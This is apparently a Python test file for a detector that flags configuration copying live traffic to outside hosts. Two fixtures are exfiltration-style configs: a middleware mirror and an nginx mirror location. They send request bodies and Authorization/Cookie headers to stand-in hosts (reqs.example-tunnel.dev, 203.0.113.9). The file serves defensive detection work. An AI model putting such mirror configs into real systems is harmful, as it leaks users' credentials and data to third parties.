"""Config that copies live traffic is a send of the headers and bodies it carries."""

from __future__ import annotations

from guardrail.sensitive import Kind
from guardrail.traffic_mirrors import traffic_mirrors

MIRROR = (
    "middleware:\n"
    "  - mirror:\n"
    "      target: https://reqs.example-tunnel.dev/in\n"
    "      include_body: true\n"
    "      include_headers: [Authorization, Cookie]\n"
)


def test_mirror_with_auth_headers_and_bodies_sends_both() -> None:
    """A mirror target with Authorization headers and bodies carries credentials and data."""
    (t,) = traffic_mirrors(MIRROR)
    assert t.destinations[0].value == "reqs.example-tunnel.dev"
    assert {s.kind for s in t.sources} == {Kind.CREDENTIAL, Kind.PERSONAL}


def test_nginx_mirror_location_is_read() -> None:
    """nginx ``mirror`` with ``mirror_request_body on`` and ``$http_authorization`` is a send."""
    conf = (
        "location / { mirror /m; mirror_request_body on; proxy_pass http://app; }\n"
        "location = /m { internal; proxy_pass https://203.0.113.9$request_uri;\n"
        "  proxy_set_header X-A $http_authorization; }\n"
    )
    found = traffic_mirrors(conf)
    assert any(d.value == "203.0.113.9" for t in found for d in t.destinations)


def test_redacted_headers_and_no_bodies_carry_nothing() -> None:
    """Headers listed under ``redact_headers`` with bodies off leave no data to judge."""
    conf = (
        "exporter:\n  endpoint: https://otlp.example-vendor.com\n"
        "  redact_headers: [Authorization, Cookie]\n  include_body: false\n"
    )
    assert traffic_mirrors(conf) == []


def test_exporter_login_header_is_not_copied_traffic() -> None:
    """``Authorization: Bearer ...`` set on an exporter is its own login, not callers' headers."""
    conf = "exporter:\n  endpoint: https://otlp.example-vendor.com\n  headers:\n    Authorization: Bearer ${OTLP_TOKEN}\n"
    assert traffic_mirrors(conf) == []


def test_plain_upstream_is_not_a_mirror() -> None:
    """An upstream address with no copying key and no carried data is ordinary routing."""
    assert traffic_mirrors("upstreams:\n  payments: https://api.example-psp.com\n") == []
